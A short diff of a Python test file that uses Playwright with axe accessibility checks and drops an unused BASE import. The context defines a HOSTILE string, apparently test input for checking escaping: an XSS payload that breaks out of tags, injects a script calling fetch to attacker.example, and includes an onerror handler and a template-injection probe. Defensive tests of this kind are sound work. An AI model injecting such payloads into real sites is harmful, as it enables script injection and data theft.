@@ -10,7 +10,7 @@ import unittest
 
 from axe_playwright_python.sync_playwright import Axe
 
-from browser import BASE, PUBLIC, Browser
+from browser import PUBLIC, Browser
 from workspace import NOW, newsadmin, write
 
 HOSTILE = """</title></style></script><script>fetch('https://attacker.example/')</script><img src=x onerror=alert(1)>"' {{x}}"""
